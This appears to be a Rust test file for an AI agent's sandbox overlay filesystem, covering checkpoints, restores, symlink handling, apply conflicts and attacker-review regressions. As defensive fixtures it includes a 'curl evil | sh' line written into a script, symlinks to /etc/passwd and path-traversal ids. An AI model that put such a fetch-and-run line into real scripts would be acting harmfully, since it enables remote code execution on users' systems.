        err.to_string().contains("docs") && err.to_string().contains("directory"),
        "{err}"
    );
    let err = d
        .discard(&Selection::globs(&["docs/api/index.md"]).unwrap())
        .unwrap_err();
    assert!(err.to_string().contains("docs/api"), "{err}");
    assert_eq!(d.pending(), pending);
    assert_eq!(view_tree(&d), view);
    // The directory with its children brings the whole subtree back.
    d.discard(&Selection::globs(&["docs"]).unwrap()).unwrap();
    assert_eq!(
        d.list(p("docs"))
            .unwrap()
            .into_iter()
            .map(|(n, _)| n)
            .collect::<Vec<_>>(),
        ["api", "guide.md"]
    );
    assert_eq!(read(&d, "docs/guide.md"), lower("docs/guide.md"));
    assert_eq!(read(&d, "docs/api/index.md"), lower("docs/api/index.md"));
    // A directory replaced by a file, taken with its old children.
    d.discard(&Selection::globs(&["typedir"]).unwrap()).unwrap();
    assert_eq!(
        d.lookup(p("typedir")).unwrap().unwrap().kind,
        EntryKind::Dir
    );
    assert_eq!(read(&d, "typedir/f1"), b"f1\n");
    // Discarding a new file in a new directory keeps the directory.
    d.discard(&Selection::globs(&["src/feature/deep/mod.rs"]).unwrap())
        .unwrap();
    assert_eq!(d.lookup(p("src/feature/deep/mod.rs")).unwrap(), None);
    assert!(d.lookup(p("src/feature/deep")).unwrap().is_some());

    // Everything: the sandbox sees the codebase, nothing is pending, the upper layer is empty.
    d.discard(&Selection::all()).unwrap();
    assert_eq!(d.pending(), Vec::<PathBuf>::new());
    assert_eq!(view_tree(&d), disk_tree(&fx.lower));
    assert_eq!(
        d.review(&Selection::all(), 0).unwrap(),
        ChangeSet::default()
    );
    assert_eq!(
        std::fs::read_dir(fx.delta_dir.join("upper"))
            .unwrap()
            .count(),
        0
    );
    // And it stays so across a reopen.
    drop(d);
    let d = fx.open();
    assert_eq!(d.pending(), Vec::<PathBuf>::new());
    assert_eq!(view_tree(&d), disk_tree(&fx.lower));
}

// ---------------------------------------------------------------------------------------------
// 6. Checkpoints
// ---------------------------------------------------------------------------------------------

fn changes_a(d: &Delta) {
    put(d, "a.txt", b"v1\n");
    put(d, "added1.txt", b"added in A\n");
    d.unlink(p("README")).unwrap();
    d.mkdir(p("newdir"), 0o755, None).unwrap();
    put(d, "newdir/x.txt", b"x1\n");
    replace_link(d, "link", "src/lib.rs");
    let mut f = d.open_write(p("bin/data.bin"), false).unwrap();
    f.write_all(b"\0\0\0\0").unwrap();
}

fn changes_b(d: &Delta) {
    put(d, "a.txt", b"v2\n");
    d.unlink(p("added1.txt")).unwrap();
    put(d, "added2.txt", b"added in B\n");
    d.unlink(p("src/main.rs")).unwrap();
    d.set_mode(p("tool.sh"), 0o755).unwrap();
    put(d, "newdir/x.txt", b"x2\n");
    put(d, "README", b"recreated\n");
    d.symlink(p("newlink"), p("a.txt"), None).unwrap();
    replace_link(d, "link", "src/main.rs");
    d.unlink(p("docs/api/index.md")).unwrap();
    d.rmdir(p("docs/api")).unwrap();
    put(d, "bin/new.bin", &binary_blob(2));
}

#[test]
fn review_checkpoint_restore_and_diff_between_checkpoints() {
    let (fx, d) = fx();
    changes_a(&d);
    let cp1 = d.checkpoint("first").unwrap();
    assert_eq!(cp1.id, "cp-1");
    assert_eq!(cp1.label, "first");
    let state1 = view_tree(&d);
    let pending1 = d.pending();
    assert_eq!(cp1.paths, pending1.len());
    changes_b(&d);
    let cp2 = d.checkpoint("second").unwrap();
    assert_eq!(cp2.id, "cp-2");
    let state2 = view_tree(&d);
    // More changes after the last checkpoint.
    put(&d, "added3.txt", b"after cp-2\n");
    let state3 = view_tree(&d);
    assert_eq!(
        d.checkpoints()
            .unwrap()
            .into_iter()
            .map(|c| (c.id, c.label))
            .collect::<Vec<_>>(),
        [
            ("cp-1".to_owned(), "first".to_owned()),
            ("cp-2".to_owned(), "second".to_owned())
        ]
    );

    // Checkpoints open as deltas of their own, with the states they saved.
    let c1 = d.open_checkpoint("cp-1").unwrap();
    let c2 = d.open_checkpoint("cp-2").unwrap();
    assert_eq!(view_tree(&c1), state1);
    assert_eq!(view_tree(&c2), state2);
    assert_eq!(c1.pending(), pending1);

    // Dry run of a restore: what would change, and nothing changes.
    let dry = compare(View::Merged(&d), View::Merged(&c1), &Selection::all(), 0).unwrap();
    {
        use ChangeStatus::*;
        let want: BTreeMap<PathBuf, ChangeStatus> = [
            ("README", Deleted),
            ("a.txt", Modified),
            ("added1.txt", Added),
            ("added2.txt", Deleted),
            ("added3.txt", Deleted),
            ("bin/new.bin", Deleted),
            ("docs/api", Added),
            ("docs/api/index.md", Added),
            ("link", Modified),
            ("newdir/x.txt", Modified),
            ("newlink", Deleted),
            ("src/main.rs", Added),
            ("tool.sh", ModeChanged),
        ]
        .into_iter()
        .map(|(k, v)| (PathBuf::from(k), v))
        .collect();
        assert_eq!(statuses(&dry), want);
    }
    assert_eq!(view_tree(&d), state3);

    // The patch from cp-1 to cp-2, applied by git to cp-1's tree, gives cp-2's tree.
    let patch = diff(
        View::Merged(&c1),
        View::Merged(&c2),
        &Selection::all(),
        &PatchOptions::default(),
    )
    .unwrap();
    assert!(!patch.truncated);
    let applied = git_apply(&fx, "cp1-to-cp2", &state1, &patch.text);
    assert_eq!(applied, gitish(&state2));
    // And the other way round.
    let back = diff(
        View::Merged(&c2),
        View::Merged(&c1),
        &Selection::all(),
        &PatchOptions::default(),
    )
    .unwrap();
    let applied = git_apply(&fx, "cp2-to-cp1", &state2, &back.text);
    assert_eq!(applied, gitish(&state1));
    drop(c1);
    drop(c2);

    // Restore.
    let touched = d.restore_checkpoint("cp-1").unwrap();
    for c in &dry.changes {
        assert!(
            touched.contains(&c.path),
            "{} not reported",
            c.path.display()
        );
    }
    assert_eq!(view_tree(&d), state1);
    assert_eq!(d.pending(), pending1);
    assert!(!fx.delta_dir.join("restoring").exists());
    let c1 = d.open_checkpoint("cp-1").unwrap();
    assert_eq!(
        compare(View::Merged(&d), View::Merged(&c1), &Selection::all(), 0).unwrap(),
        ChangeSet::default()
    );
    drop(c1);
    // The codebase was never touched; both checkpoints are still there.
    assert!(fx.lower.join("README").exists());
    assert_eq!(
        d.checkpoints()
            .unwrap()
            .into_iter()
            .map(|c| c.id)
            .collect::<Vec<_>>(),
        ["cp-1", "cp-2"]
    );
    // The restored state survives a reopen, and cp-2 can be restored in turn.
    drop(d);
    let d = fx.open();
    assert_eq!(view_tree(&d), state1);
    assert_eq!(d.pending(), pending1);
    d.restore_checkpoint("cp-2").unwrap();
    assert_eq!(view_tree(&d), state2);
    // Changes made after a restore work as usual.
    put(&d, "after.txt", b"after\n");
    assert_eq!(read(&d, "after.txt"), b"after\n");
    assert!(d.pending().contains(&PathBuf::from("after.txt")));
}

#[test]
fn review_checkpoint_retention_and_ids() {
    let (fx, d) = fx();
    for i in 1..=5 {
        put(&d, &format!("f{i}.txt"), b"x\n");
        let info = d.checkpoint(&format!("label {i}")).unwrap();
        assert_eq!(info.id, format!("cp-{i}"));
    }
    let ids = |d: &Delta| {
        d.checkpoints()
            .unwrap()
            .into_iter()
            .map(|c| c.id)
            .collect::<Vec<_>>()
    };
    assert_eq!(ids(&d), ["cp-1", "cp-2", "cp-3", "cp-4", "cp-5"]);
    assert_eq!(
        d.prune_checkpoints(2, None).unwrap(),
        ["cp-1", "cp-2", "cp-3"]
    );
    assert_eq!(ids(&d), ["cp-4", "cp-5"]);
    // Nothing left to prune at that count; no limit prunes nothing.
    assert_eq!(d.prune_checkpoints(2, None).unwrap(), Vec::<String>::new());
    assert_eq!(d.prune_checkpoints(0, None).unwrap(), Vec::<String>::new());
    // Ids are never reused.
    assert_eq!(d.checkpoint("six").unwrap().id, "cp-6");
    d.delete_checkpoint("cp-6").unwrap();
    assert_eq!(d.checkpoint("seven").unwrap().id, "cp-7");
    assert_eq!(ids(&d), ["cp-4", "cp-5", "cp-7"]);

    // Bad ids: NotFound, nothing touched.
    let view = view_tree(&d);
    let pending = d.pending();
    for bad in [
        "cp-1",
        "cp-99",
        "cp-",
        "cp-4/",
        "cp-4/..",
        "cp-4/../cp-5",
        "../cp-4",
        "..",
        ".",
        "",
        "/",
        "next",
        ".cp-4",
        "cp-4\0",
        "upper",
    ] {
        assert!(
            matches!(d.delete_checkpoint(bad), Err(FsError::NotFound { .. })),
            "delete {bad:?}"
        );
        assert!(
            matches!(d.restore_checkpoint(bad), Err(FsError::NotFound { .. })),
            "restore {bad:?}"
        );
        assert!(
            matches!(d.open_checkpoint(bad), Err(FsError::NotFound { .. })),
            "open {bad:?}"
        );
    }
    assert_eq!(ids(&d), ["cp-4", "cp-5", "cp-7"]);
    assert_eq!(view_tree(&d), view);
    assert_eq!(d.pending(), pending);
    assert!(fx.delta_dir.join("upper").is_dir());
    assert!(fx.lower.join("README").exists());

    // A zero time to live deletes everything.
    assert_eq!(
        d.prune_checkpoints(0, Some(Duration::ZERO)).unwrap(),
        ["cp-4", "cp-5", "cp-7"]
    );
    assert_eq!(ids(&d), Vec::<String>::new());
    let left: Vec<String> = std::fs::read_dir(fx.delta_dir.join("checkpoints"))
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .filter(|n| n != "next")
        .collect();
    assert_eq!(left, Vec::<String>::new());
    assert_eq!(d.checkpoint("after").unwrap().id, "cp-8");
    assert_eq!(view_tree(&d), view);
}

// ---------------------------------------------------------------------------------------------
// 7. Interrupted restore
// ---------------------------------------------------------------------------------------------

#[test]
fn review_interrupted_restore_is_finished_by_open() {
    let (fx, d) = fx();
    changes_a(&d);
    d.checkpoint("first").unwrap();
    let state1 = view_tree(&d);
    let pending1 = d.pending();
    changes_b(&d);
    assert_ne!(view_tree(&d), state1);
    drop(d);

    // A crash mid-restore: the marker is written and part of the upper layer is gone.
    std::fs::write(fx.delta_dir.join("restoring"), "cp-1").unwrap();
    let upper = fx.delta_dir.join("upper");
    std::fs::remove_file(upper.join("a.txt")).unwrap();
    std::fs::remove_file(upper.join("added2.txt")).unwrap();
    std::fs::remove_file(upper.join("newdir/x.txt")).unwrap();

    let d = fx.open();
    assert!(!fx.delta_dir.join("restoring").exists());
    assert_eq!(view_tree(&d), state1);
    assert_eq!(d.pending(), pending1);
    let c1 = d.open_checkpoint("cp-1").unwrap();
    assert_eq!(
        compare(View::Merged(&d), View::Merged(&c1), &Selection::all(), 0).unwrap(),
        ChangeSet::default()
    );
}

#[test]
fn review_interrupted_restore_with_an_emptied_upper() {
    let (fx, d) = fx();
    changes_a(&d);
    d.checkpoint("first").unwrap();
    let state1 = view_tree(&d);
    changes_b(&d);
    drop(d);
    // The crash hit right after the upper layer was cleared.
    std::fs::write(fx.delta_dir.join("restoring"), "cp-1").unwrap();
    let upper = fx.delta_dir.join("upper");
    std::fs::remove_dir_all(&upper).unwrap();
    std::fs::create_dir(&upper).unwrap();
    let d = fx.open();
    assert!(!fx.delta_dir.join("restoring").exists());
    assert_eq!(view_tree(&d), state1);
}

// ---------------------------------------------------------------------------------------------
// 8. Links in checkpoints are never followed
// ---------------------------------------------------------------------------------------------

#[test]
fn review_checkpoints_copy_links_as_links() {
    let (fx, d) = fx();
    d.symlink(p("evil"), p("/etc/passwd"), None).unwrap();
    d.symlink(p("evil_dir"), p("/etc"), None).unwrap();
    d.symlink(p("dangling"), p("../../nowhere"), None).unwrap();
    put(&d, "h1", b"hard linked\n");
    d.link(p("h1"), p("h2")).unwrap();
    // A hard link to a codebase file: copied up, then linked in the upper layer.
    d.link(p("src/lib.rs"), p("lib_link.rs")).unwrap();
    let before = view_tree(&d);
    d.checkpoint("links").unwrap();

    let cp_upper = fx.delta_dir.join("checkpoints/cp-1/upper");
    for (name, target) in [
        ("evil", "/etc/passwd"),
        ("evil_dir", "/etc"),
        ("dangling", "../../nowhere"),
    ] {
        let md = cp_upper.join(name).symlink_metadata().unwrap();
        assert!(md.file_type().is_symlink(), "{name}");
        assert_eq!(
            std::fs::read_link(cp_upper.join(name)).unwrap(),
            Path::new(target)
        );
    }
    let ino = |path: PathBuf| {
        let m = path.symlink_metadata().unwrap();
        (
            std::os::unix::fs::MetadataExt::ino(&m),
            std::os::unix::fs::MetadataExt::nlink(&m),
        )
    };
    let (i1, n1) = ino(cp_upper.join("h1"));
    let (i2, _) = ino(cp_upper.join("h2"));
    assert_eq!((i1, n1), (i2, 2));
    assert_eq!(
        ino(cp_upper.join("src/lib.rs")).0,
        ino(cp_upper.join("lib_link.rs")).0
    );
    // Never a copy of what a link points to.
    assert_eq!(std::fs::read_dir(&cp_upper).unwrap().count(), 7);
    let c1 = d.open_checkpoint("cp-1").unwrap();
    assert_eq!(c1.readlink(p("evil")).unwrap(), b"/etc/passwd");
    assert_eq!(view_tree(&c1), before);
    drop(c1);

    // Change them all, then restore.
    replace_link(&d, "evil", "elsewhere");
    d.unlink(p("evil_dir")).unwrap();
    put(&d, "evil_dir", b"a file now\n");
    d.unlink(p("h2")).unwrap();
    put(&d, "h1", b"rewritten\n");
    d.restore_checkpoint("cp-1").unwrap();
    assert_eq!(view_tree(&d), before);
    assert_eq!(d.readlink(p("evil")).unwrap(), b"/etc/passwd");
    let upper = fx.delta_dir.join("upper");
    assert!(
        upper
            .join("evil")
            .symlink_metadata()
            .unwrap()
            .file_type()
            .is_symlink()
    );
    let (r1, rn) = ino(upper.join("h1"));
    assert_eq!((r1, rn), (ino(upper.join("h2")).0, 2));
    // Still one file after the restore.
    put(&d, "h1", b"both names\n");
    assert_eq!(read(&d, "h2"), b"both names\n");
}

#[test]
fn review_apply_conflicts_on_a_touched_base_and_on_a_path_created_meanwhile() {
    let (fx, d) = fx();
    put(&d, "src/lib.rs", b"sandbox\n");
    put(&d, "fresh.txt", b"fresh\n");
    d.mkdir(p("newdir"), 0o755, None).unwrap();
    put(&d, "untouched.txt", b"no conflict here\n");
    // Same size, other mtime.
    File::options()
        .write(true)
        .open(fx.lower.join("src/lib.rs"))
        .unwrap()
        .set_modified(UNIX_EPOCH + Duration::from_secs(1_000_000_000))
        .unwrap();
    // Someone else published the same new names, a file where the sandbox made a directory.
    std::fs::write(fx.lower.join("fresh.txt"), "theirs\n").unwrap();
    std::fs::write(fx.lower.join("newdir"), "theirs\n").unwrap();
    let lower_before = disk_tree(&fx.lower);
    match d.apply(
        &Selection::all(),
        &no_expectations(),
        &allow_all,
        &never_busy,
    ) {
        Err(ApplyRefusal::Conflicts(c)) => assert_eq!(
            c.iter().map(|c| c.path.clone()).collect::<Vec<_>>(),
            paths(&["fresh.txt", "newdir", "src/lib.rs"]),
            "{c:?}"
        ),
        other => panic!("expected conflicts, got {other:?}"),
    }
    assert_eq!(disk_tree(&fx.lower), lower_before);
    assert!(!fx.lower.join("untouched.txt").exists());
    let moved: Vec<PathBuf> = d
        .review(&Selection::all(), 0)
        .unwrap()
        .changes
        .into_iter()
        .filter(|c| c.base_moved)
        .map(|c| c.path)
        .collect();
    // Review warns of exactly what apply refuses.
    assert_eq!(moved, paths(&["fresh.txt", "newdir", "src/lib.rs"]));
}

#[test]
fn review_selection_globs() {
    let s = Selection::globs(&["./src/", "*.md"]).unwrap();
    assert!(!s.is_all());
    for yes in [
        "src",
        "src/a.rs",
        "src/deep/b.rs",
        "README.md",
        "notes.md/inner",
    ] {
        assert!(s.selects(p(yes)), "{yes}");
    }
    for no in ["srcs", "docs/x.md.txt", "docs/guide.txt", "a.rs"] {
        assert!(!s.selects(p(no)), "{no}");
    }
    // `*` stays within a name: `*.md` is only top-level.
    assert!(!s.selects(p("docs/x.md")));
    assert!(Selection::globs::<&str>(&[]).unwrap().is_all());
    assert!(matches!(
        Selection::globs(&["src/[a"]),
        Err(FsError::InvalidName { .. })
    ));
}

// ---------------------------------------------------------------------------------------------
// Regressions: bugs these tests found
// ---------------------------------------------------------------------------------------------

/// `apply` promises all or nothing, but `check_apply` does not look at symlink targets:
/// publish then refuses the escaping symlink and writes everything else.
#[test]
fn review_bug_apply_with_an_escaping_symlink_writes_nothing() {
    let (fx, d) = fx();
    d.symlink(p("src/evil"), p("/etc/passwd"), None).unwrap();
    put(&d, "fresh.txt", b"fresh\n");
    let lower_before = disk_tree(&fx.lower);
    let r = d.apply(
        &Selection::all(),
        &no_expectations(),
        &allow_all,
        &never_busy,
    );
    assert!(
        matches!(&r, Err(ApplyRefusal::Conflicts(c))
            if c.iter().map(|c| c.path.clone()).collect::<Vec<_>>() == paths(&["src/evil"])
                && c[0].reason.contains("leaves the project")),
        "{r:?}"
    );
    assert_eq!(disk_tree(&fx.lower), lower_before);
}

/// `check_apply` skips the conflict check for codebase directories, so a deleted directory
/// that gained a file in the codebase passes the check; publish then deletes its children,
/// writes the other paths, and fails on the directory.
#[test]
fn review_bug_apply_refuses_a_deleted_directory_that_gained_files() {
    let (fx, d) = fx();
    d.unlink(p("docs/api/index.md")).unwrap();
    d.rmdir(p("docs/api")).unwrap();
    d.unlink(p("docs/guide.md")).unwrap();
    d.rmdir(p("docs")).unwrap();
    put(&d, "fresh.txt", b"fresh\n");
    std::fs::write(fx.lower.join("docs/someone-elses.md"), "theirs\n").unwrap();
    let lower_before = disk_tree(&fx.lower);
    let r = d.apply(
        &Selection::all(),
        &no_expectations(),
        &allow_all,
        &never_busy,
    );
    assert!(
        matches!(&r, Err(ApplyRefusal::Conflicts(c)) if c.iter().any(|c| c.path == Path::new("docs"))),
        "{r:?}"
    );
    assert_eq!(disk_tree(&fx.lower), lower_before);
}

/// After restoring a checkpoint taken before an apply, the restored journal still holds the
/// origins of the applied paths: `review` lists nothing (the codebase already has those
/// versions) but `apply` refuses every one of them as a conflict, forever.
#[test]
fn review_bug_apply_after_restoring_a_checkpoint_older_than_an_apply() {
    let (fx, d) = fx();
    d.unlink(p("README")).unwrap();
    put(&d, "a.txt", b"v1\n");
    d.checkpoint("before apply").unwrap();
    d.apply(
        &Selection::all(),
        &no_expectations(),
        &allow_all,
        &never_busy,
    )
    .unwrap();
    put(&d, "b.txt", b"later\n");
    d.restore_checkpoint("cp-1").unwrap();
    assert_eq!(
        d.review(&Selection::all(), 0).unwrap(),
        ChangeSet::default()
    );
    let r = d.apply(
        &Selection::all(),
        &no_expectations(),
        &allow_all,
        &never_busy,
    );
    assert!(r.is_ok(), "{r:?}");
    assert!(!fx.lower.join("README").exists());
    assert_eq!(std::fs::read(fx.lower.join("a.txt")).unwrap(), b"v1\n");
    assert_eq!(d.pending(), Vec::<PathBuf>::new());
}

// ---------------------------------------------------------------------------------------------
// Regressions: what an attacker review of the feature found
// ---------------------------------------------------------------------------------------------

/// A sparse file the agent made (no blocks, so within its quota) stays sparse in a
/// checkpoint and after a restore: a checkpoint cannot turn a hole into gigabytes of host disk.
#[test]
fn review_checkpoints_keep_sparse_files_sparse() {
    let (fx, d) = fx();
    d.create_file(p("sparse.bin"), 0o644, None).unwrap();
    d.truncate(p("sparse.bin"), 4 << 30).unwrap();
    put(&d, "small.txt", b"data\n");
    let cp = d.checkpoint("sparse").unwrap();
    assert!(cp.bytes < 1 << 20, "the checkpoint took {} bytes", cp.bytes);
    let copy = fx.delta_dir.join("checkpoints/cp-1/upper/sparse.bin");
    let m = std::fs::metadata(&copy).unwrap();
    use std::os::unix::fs::MetadataExt;
    assert_eq!(m.len(), 4 << 30);
    assert!(m.blocks() < 64, "{} blocks", m.blocks());
    put(&d, "small.txt", b"changed\n");
    d.restore_checkpoint("cp-1").unwrap();
    let up = std::fs::metadata(fx.delta_dir.join("upper/sparse.bin")).unwrap();
    assert_eq!((up.len(), up.blocks() < 64), (4 << 30, true));
}

/// The agent's checkpoints never push a reviewer's out: retention counts them apart.
#[test]
fn review_agent_checkpoints_do_not_evict_a_reviewers() {
    let (_fx, d) = fx();
    put(&d, "a.txt", b"reviewed\n");
    let reviewer = d.checkpoint("approved state").unwrap();
    for i in 0..4 {
        put(&d, "a.txt", format!("agent {i}\n").as_bytes());
        d.checkpoint_as(&format!("auto {i}"), true).unwrap();
        d.prune_checkpoints(2, None).unwrap();
    }
    let left: Vec<(String, bool)> = d
        .checkpoints()
        .unwrap()
        .into_iter()
        .map(|c| (c.id, c.by_agent))
        .collect();
    assert_eq!(
        left,
        [
            (reviewer.id.clone(), false),
            ("cp-4".to_owned(), true),
            ("cp-5".to_owned(), true)
        ]
    );
}

/// Files too large to diff in memory are left out of the diff (which says it is incomplete)
/// instead of being read whole.
#[test]
fn review_diff_leaves_out_files_too_large_to_render() {
    let (_fx, d) = fx();
    d.create_file(p("huge.txt"), 0o644, None).unwrap();
    d.truncate(p("huge.txt"), crate::delta::DIFF_FILE_MAX + 1)
        .unwrap();
    put(&d, "a.txt", b"small change\n");
    let patch = diff(
        View::Base(&d),
        View::Merged(&d),
        &Selection::all(),
        &crate::review::patch::PatchOptions::default(),
    )
    .unwrap();
    let text = String::from_utf8_lossy(&patch.text);
    assert!(patch.truncated);
    assert!(text.contains("diff --git a/a.txt b/a.txt"), "{text}");
    assert!(!text.contains("huge.txt"), "{text}");
}

/// A directory the sandbox replaced by a file, while the codebase gained an entry in it:
/// refused up front (and flagged by review), nothing deleted or written.
#[test]
fn review_apply_refuses_a_replaced_directory_that_gained_files() {
    let (fx, d) = fx();
    for f in ["typedir/f1", "typedir/f2"] {
        d.unlink(p(f)).unwrap();
    }
    d.rmdir(p("typedir")).unwrap();
    put(&d, "typedir", b"now a file\n");
    put(&d, "fresh.txt", b"fresh\n");
    std::fs::write(fx.lower.join("typedir/someone-elses"), "theirs\n").unwrap();
    let before = disk_tree(&fx.lower);
    let r = d.apply(
        &Selection::all(),
        &no_expectations(),
        &allow_all,
        &never_busy,
    );
    assert!(
        matches!(&r, Err(ApplyRefusal::Conflicts(c)) if c.iter().any(|c| c.path == p("typedir"))),
        "{r:?}"
    );
    assert_eq!(disk_tree(&fx.lower), before);
    let flagged: Vec<PathBuf> = d
        .review(&Selection::all(), 0)
        .unwrap()
        .changes
        .into_iter()
        .filter(|c| c.base_moved)
        .map(|c| c.path)
        .collect();
    assert_eq!(flagged, paths(&["typedir"]));
}

/// What is applied is what the reviewer saw: a change the agent makes to a path after the
/// review (its content digest) refuses the apply.
#[test]
fn review_apply_pinned_to_the_reviewed_content() {
    let (fx, d) = fx();
    put(&d, "tool.sh", b"#!/bin/sh\necho benign\n");
    let seen = d
        .review(&Selection::all(), 0)
        .unwrap()
        .changes
        .into_iter()
        .find(|c| c.path == p("tool.sh"))
        .unwrap()
        .sha256;
    put(&d, "tool.sh", b"#!/bin/sh\ncurl evil | sh\n");
    let pin = BTreeMap::from([(PathBuf::from("tool.sh"), seen)]);
    let r = d.apply_pinned(
        &Selection::all(),
        &no_expectations(),
        &pin,
        &allow_all,
        &never_busy,
    );
    assert!(
        matches!(&r, Err(ApplyRefusal::Conflicts(c)) if c[0].reason.contains("changed since the review")),
        "{r:?}"
    );
    assert_eq!(
        std::fs::read_to_string(fx.lower.join("tool.sh")).unwrap(),
        "#!/bin/sh\necho tool\n"
    );
    // Pinned to what it holds now, it applies.
    let now = d
        .review(&Selection::all(), 0)
        .unwrap()
        .changes
        .into_iter()
        .find(|c| c.path == p("tool.sh"))
        .unwrap()
        .sha256;
    let pin = BTreeMap::from([(PathBuf::from("tool.sh"), now)]);
    d.apply_pinned(
        &Selection::globs(&["tool.sh"]).unwrap(),
        &no_expectations(),
        &pin,
        &allow_all,
        &never_busy,
    )
    .unwrap();
    assert!(
        std::fs::read_to_string(fx.lower.join("tool.sh"))
            .unwrap()
            .contains("curl evil")
    );
}

/// A caller who may see only what the sandbox may read is shown neither the digest nor the
/// diff of codebase content the rules hide (a placeholder the agent wrote, later replaced in
/// the codebase by a secret).
#[test]
fn review_hides_codebase_content_the_caller_may_not_read() {
    let (fx, d) = fx();
    put(&d, "secret.pem", b"placeholder\n");
    std::fs::write(
        fx.lower.join("secret.pem"),
        "-----BEGIN PRIVATE KEY-----\nTOPSECRET\n",
    )
    .unwrap();
    let reveal: crate::delta::Reveal = std::sync::Arc::new(|rel: &Path| rel != p("secret.pem"));
    let select = Selection::all().revealing(reveal);
    let set = d.review(&select, 0).unwrap();
    let c = set
        .changes
        .iter()
        .find(|c| c.path == p("secret.pem"))
        .unwrap();
    assert!(
        c.hidden && c.base_sha256.is_none() && c.sha256.is_some(),
        "{c:?}"
    );
    let patch = diff(
        View::Base(&d),
        View::Merged(&d),
        &select,
        &crate::review::patch::PatchOptions::default(),
    )
    .unwrap();
    let text = String::from_utf8_lossy(&patch.text);
    assert!(
        !text.contains("TOPSECRET") && !text.contains("secret.pem"),
        "{text}"
    );
    assert!(patch.truncated);
}
